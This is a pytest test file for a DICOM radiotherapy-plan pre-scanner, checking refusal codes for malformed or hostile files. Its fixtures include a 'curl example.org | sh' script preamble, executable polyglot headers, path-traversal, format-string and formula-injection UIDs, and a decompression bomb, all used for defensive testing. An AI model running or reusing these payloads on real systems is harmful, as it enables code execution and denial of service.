"""What the pre-scan files, what it refuses and by which name, before any library sees a file."""

import hashlib
import tracemalloc
import zlib
from dataclasses import fields
from pathlib import Path
from struct import pack

import pytest
from dicom_builders import (
    bare,
    bytes_with,
    codes,
    element,
    file_of,
    head_of,
    linac,
    put_raw,
    rewritten,
    unchanged,
)
from pydicom.data import get_testdata_file
from pydicom.dataset import Dataset

from continuity_kit.dicom import prescan as module
from continuity_kit.dicom.fictitious import encode
from continuity_kit.dicom.plan_reader import read_plan
from continuity_kit.dicom.prescan import (
    ALLOWED_CLASSES,
    EXPLICIT,
    IMPLICIT,
    SECOND_GENERATION,
    clear_preamble,
    prescan,
    prescan_tree,
)
from continuity_kit.domain.approval import approval_findings
from continuity_kit.domain.findings import Refusal, has_stop
from continuity_kit.domain.plan import Plan
from continuity_kit.errors import WorldError
from continuity_kit.messages import LANGUAGES, sentence
from continuity_kit.services.object_reading import Reading, read_object
from continuity_kit.sources.dicom_folder import file_dicom
from continuity_kit.vault.catalogue import CatalogueObject, Member

PLAN = bytes_with(unchanged)
IMPLICIT_PLAN = bytes_with(unchanged, implicit=True)
SMALL = file_of(head_of())
PREAMBLES = {
    "PE": b"MZ\x90\0\x03\0\0\0",
    "ELF": b"\x7fELF\x02\x01\x01\0",
    "Mach-O": b"\xcf\xfa\xed\xfe\x07\0\0\x01",
    "TIFF": b"II*\0\x08\0\0\0",
    "PDF": b"%PDF-1.7\n1 0 obj",
    "ZIP": b"PK\x03\x04\x14\0\0\0",
    "script": b"#!/bin/sh\ncurl example.org | sh\n",
    "last byte alone": bytes(127) + b"\1",
}


def refusal(data: bytes) -> WorldError:
    with pytest.raises(WorldError) as caught:
        prescan(data)
    for language in LANGUAGES:
        assert sentence(caught.value.code, language, caught.value.values)
    return caught.value


def test_a_plan_is_filed_by_what_stands_in_it() -> None:
    report = prescan(PLAN)
    made = linac()
    assert report.is_plan and not report.is_record
    assert report.sop_instance_uid == made.SOPInstanceUID
    assert (report.patient_id, report.id_issuer) == ("0000123", "CSE")
    assert report.patient_name == "D'INVENTÉ^Élodie"
    assert report.approval == "APPROVED"
    assert report.structure_set_uids == (
        made.ReferencedStructureSetSequence[0].ReferencedSOPInstanceUID,
    )
    assert (report.transfer_syntax, report.has_meta) == (EXPLICIT, True)
    assert prescan(IMPLICIT_PLAN).transfer_syntax == IMPLICIT


HEADLESS = {
    "no preamble and no file meta": bare,
    "DICM without file meta": lambda data: bytes(128) + b"DICM" + bare(data),
    "file meta without preamble": lambda data: data[132:],
    "file meta without a transfer syntax": lambda data: (
        bytes(128) + b"DICM" + element(0x00020003, b"1.2.3.4\0", b"UI") + bare(data)
    ),
}


@pytest.mark.parametrize("data", [PLAN, IMPLICIT_PLAN], ids=["explicit", "implicit"])
@pytest.mark.parametrize("form", HEADLESS)
def test_a_file_without_its_head_reads_as_the_whole_one(form: str, data: bytes) -> None:
    headless = HEADLESS[form](data)
    assert prescan(headless).transfer_syntax == prescan(data).transfer_syntax
    assert prescan_tree(headless)[1] == prescan_tree(data)[1]
    plan, whole = read_plan(headless), read_plan(data)
    assert (plan.beams, plan.fraction_groups) == (whole.beams, whole.fraction_groups)
    assert not has_stop(plan.findings)


def test_a_headless_file_that_reads_both_ways_is_refused() -> None:
    # Walked as implicit, the length of this element is its VR and explicit length together.
    length = int.from_bytes(b"LO\x02\0", "little")
    both = pack("<HH", 0x0008, 0x0070) + b"LO" + pack("<H", 2) + b"x "
    filler = element(0x00090010, bytes(length - 2 - 12), b"OB")
    assert refusal(both + filler).code == "dicom-ambiguous"


@pytest.mark.parametrize(
    ("data", "code"),
    [
        (b"", "dicom-not-dicom"),
        (b"\x08\0\x16\0UI", "dicom-not-dicom"),
        (b"no DICOM file at all, only text", "dicom-not-dicom"),
        (bytes(200), "dicom-not-dicom"),
        (bytes(128) + b"DICM", "dicom-not-dicom"),
        (b"\0\x08\0\x16UI\0\x1a" + bytes(40), "dicom-transfer-syntax"),
        (file_of(head_of(), b"1.2.840.10008.1.2.2\0"), "dicom-transfer-syntax"),
        (file_of(head_of(), b"not a uid "), "dicom-transfer-syntax"),
        (file_of(head_of(), b"1.2.840.10008.1.2.4.50"), "dicom-transfer-syntax"),
        (SMALL[:-2], "dicom-truncated"),
        (file_of(head_of(b"1.2.840.10008.5.1.4.1.1.4 ")), "dicom-class-foreign"),
        (file_of(element(0x00100020, b"1 ")), "dicom-class-foreign"),
    ],
)
def test_what_is_no_object_of_ours_is_refused_by_name(data: bytes, code: str) -> None:
    assert refusal(data).code == code


def test_second_generation_objects_are_named_as_not_supported() -> None:
    assert len(SECOND_GENERATION) == 20
    for sop_class in sorted(SECOND_GENERATION):
        padded = sop_class.encode().ljust(len(sop_class) + len(sop_class) % 2, b"\0")
        error = refusal(file_of(head_of(padded)))
        assert error.code == "dicom-second-generation"
        assert sop_class in sentence(error.code, "en", error.values)
        assert "not supported" in sentence(error.code, "en", error.values)


def test_image_classes_alone_may_carry_compressed_pixels() -> None:
    fragment = b"\xfe\xff\x00\xe0" + pack("<I", 4) + b"\xff\xd8\xff\xd9"
    pixels = pack("<HH", 0x7FE0, 0x0010) + b"OB\0\0\xff\xff\xff\xff" + fragment
    pixels += b"\xfe\xff\xdd\xe0" + bytes(4)
    syntax = b"1.2.840.10008.1.2.4.50"
    image = head_of(b"1.2.840.10008.5.1.4.1.1.2\0")
    assert prescan(file_of(image + pixels, syntax)).sop_class == module.CT_IMAGE
    assert refusal(file_of(image + pixels)).code == "dicom-pixels-compressed"
    assert refusal(file_of(head_of(), syntax)).code == "dicom-transfer-syntax"


@pytest.mark.parametrize("syntax", ["explicit", "implicit"])
@pytest.mark.parametrize("form", ["whole", *HEADLESS])
def test_every_truncation_of_a_small_plan_is_refused_or_stops(form: str, syntax: str) -> None:
    data = bytes_with(shortened, implicit=syntax == "implicit")
    check_truncations(data if form == "whole" else HEADLESS[form](data))


@pytest.mark.parametrize("kind", ["ion", "brachy"])
def test_every_truncation_of_an_ion_or_brachy_plan_is_refused_or_stops(kind: str) -> None:
    check_truncations(bytes_with(unchanged, kind))


def check_truncations(data: bytes) -> None:
    whole = read_plan(data)
    assert not has_stop(whole.findings)
    kept = []
    for end in range(len(data)):
        try:
            plan = read_plan(data[:end])
        except WorldError as error:
            assert error.code.startswith("dicom-")
            continue
        if not has_stop(plan.findings):
            assert is_approval_cut(plan, whole), end
            kept.append(end)
    assert len(kept) <= 5
    assert len(data) > 459


def is_approval_cut(plan: Plan, whole: Plan) -> bool:
    """Tell whether a cut took nothing but the last elements, which say who approved the plan.

    Without an approval the plan is stopped with what the other sources say; with an approval and
    no reviewer a warning asks for the signed paper.
    """
    last = {"reviewer", "review_date", "approval", "structure_set_uids", "findings"}
    is_same = all(
        getattr(plan, item.name) == getattr(whole, item.name)
        for item in fields(Plan)
        if item.name not in last
    )
    stopped = "plan-not-approved" in {item.code for item in approval_findings(plan, None)}
    return is_same and (stopped or "approval-without-reviewer" in codes(plan))


def shortened(made: Dataset) -> None:
    """Leave one static field, so that every cut can be tried."""
    made.BeamSequence = [beam for beam in made.BeamSequence if beam.BeamNumber == 1]
    group = made.FractionGroupSequence[0]
    group.ReferencedBeamSequence = [
        one for one in group.ReferencedBeamSequence if one.ReferencedBeamNumber == 1
    ]
    group.NumberOfBeams = 1


def test_an_instance_that_the_file_meta_names_otherwise_is_said() -> None:
    meta = element(0x00020003, b"1.2.3.5\0", b"UI")
    syntax = element(0x00020010, b"1.2.840.10008.1.2.1\0", b"UI")
    report = prescan(bytes(128) + b"DICM" + meta + syntax + head_of())
    assert report.meta_uid_differs
    assert report.sop_instance_uid == "1.2.3.4"


def test_the_same_element_twice_in_the_file_meta_is_refused() -> None:
    syntax = element(0x00020010, b"1.2.840.10008.1.2.1\0", b"UI")
    data = bytes(128) + b"DICM" + syntax + syntax + head_of()
    assert refusal(data).code == "dicom-duplicate-element"


@pytest.mark.parametrize(
    "instance",
    [b"../../etc/passwd", b"1.2.3%s%n", b"", b"1" * 66, b"=1+1", b"1.2 .3"],
)
def test_a_uid_that_is_none_is_refused(instance: bytes) -> None:
    head = element(0x00080016, b"1.2.840.10008.5.1.4.1.1.481.5\0", b"UI")
    padded = instance + b"\0" * (len(instance) % 2)
    assert refusal(file_of(head + element(0x00080018, padded, b"UI"))).code == "dicom-uid-wrong"


@pytest.mark.parametrize(
    "raw",
    [
        b"12\\34",
        b"12\x0034",
        b"12\n34",
        b"\xc3\xa912",
        b"12\x9f",
        b"1" * 70,
        "12\u202e34".encode(),
    ],
)
def test_an_identifier_that_is_not_plain_text_is_refused(raw: bytes) -> None:
    data = rewritten(PLAN, lambda node: put_raw(node, "PatientID", raw))
    assert refusal(data).code == "dicom-identity-unreadable"


def test_an_identifier_keeps_its_leading_zeros_and_its_case() -> None:
    def change(made: Dataset) -> None:
        made.PatientID, made.IssuerOfPatientID = "00aB 12", "Hôpital"

    report = prescan(bytes_with(change))
    assert (report.patient_id, report.id_issuer) == ("00aB 12", "Hôpital")


def test_an_issuer_can_stand_in_its_qualifiers() -> None:
    def change(made: Dataset) -> None:
        del made.IssuerOfPatientID
        qualifier = Dataset()
        qualifier.UniversalEntityID = "1.2.250.1.999"
        made.IssuerOfPatientIDQualifiersSequence = [qualifier]

    assert prescan(bytes_with(change)).id_issuer == "1.2.250.1.999"


def test_a_file_larger_than_its_kind_allows_is_refused(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(module, "MAX_BYTES", len(PLAN) - 1)
    assert refusal(PLAN).code == "dicom-too-large"
    monkeypatch.setattr(module, "MAX_BYTES", len(PLAN))
    assert prescan(PLAN).is_plan
    monkeypatch.setattr(module, "MAX_LARGE_BYTES", len(PLAN) - 1)
    assert refusal(PLAN).code == "dicom-too-large"


@pytest.mark.parametrize("kind", PREAMBLES)
def test_p18_a_preamble_that_is_another_format_is_cleared_at_export_and_refused_at_import(
    kind: str,
) -> None:
    hostile = PREAMBLES[kind].ljust(128, b"\0") + PLAN[128:]
    facts, carried = file_dicom(hostile, "")
    assert facts.preamble_cleared
    assert carried == PLAN == clear_preamble(hostile)
    assert not prescan(hostile).preamble_zero
    assert import_of(hostile).refused == Refusal("import-preamble", "plan.dcm")
    assert not import_of(hostile).is_kept
    assert import_of(carried).refused is None
    assert import_of(carried).plan == read_plan(PLAN)


def import_of(data: bytes) -> Reading:
    """Return what an import makes of a plan with these bytes."""
    report = prescan(data)
    digest = hashlib.sha256(data).hexdigest()
    member = Member("plan.dcm", report.sop_instance_uid, digest, len(data))
    item = CatalogueObject(
        role="plan",
        sha256="0" * 64,
        size=len(data),
        content_sha256=digest,
        content_length=len(data),
        sop_class=report.sop_class,
        uids=(report.sop_instance_uid,),
        patient_id=report.patient_id,
        id_issuer=report.id_issuer,
        plan_uids=(report.sop_instance_uid,),
        members=(member,),
    )
    return read_object(item, data, lambda content, _: read_plan(content))


def test_p18_a_file_that_has_no_preamble_is_carried_as_it_came() -> None:
    headless = bare(PLAN)
    facts, carried = file_dicom(headless, "")
    assert carried == headless and not facts.preamble_cleared


def test_p19_a_deflated_bomb_is_refused_before_anything_is_inflated() -> None:
    bomb = zlib.compressobj(9, zlib.DEFLATED, -15)
    deflated = bomb.compress(head_of() + bytes(200 * 1024 * 1024)) + bomb.flush()
    data = file_of(deflated, b"1.2.840.10008.1.2.1.99")
    tracemalloc.start()
    try:
        assert refusal(data).code == "dicom-transfer-syntax"
        assert tracemalloc.get_traced_memory()[1] < 1024 * 1024
    finally:
        tracemalloc.stop()


@pytest.mark.parametrize("place", ["meta", "data set", "item"])
def test_p19_a_length_of_four_gigabytes_is_refused_in_little_memory(place: str) -> None:
    huge = b"UT\0\0\xf0\xff\xff\xff"
    data = {
        "meta": bytes(128) + b"DICM" + pack("<HH", 2, 0x102) + b"OB\0\0\xf0\xff\xff\xff",
        "data set": SMALL + pack("<HH", 0x300A, 0x00C3) + huge,
        "item": SMALL + pack("<HH", 0x300A, 0x00B0) + b"SQ\0\0\xf0\xff\xff\xff",
    }[place]
    tracemalloc.start()
    try:
        assert refusal(data).code == "dicom-truncated"
        assert tracemalloc.get_traced_memory()[1] < 1024 * 1024
    finally:
        tracemalloc.stop()


@pytest.mark.parametrize("name", ["rtdose.dcm", "rtdose_1frame.dcm", "rtstruct.dcm"])
def test_pydicoms_own_objects_are_filed(name: str) -> None:
    data = Path(str(get_testdata_file(name, download=False))).read_bytes()
    assert prescan(data).sop_class in ALLOWED_CLASSES


def test_identifiers_and_names_do_not_show_in_a_repr() -> None:
    report = prescan(encode(linac()))
    for text in ("0000123", "INVENT", report.sop_instance_uid):
        assert text not in repr(report)
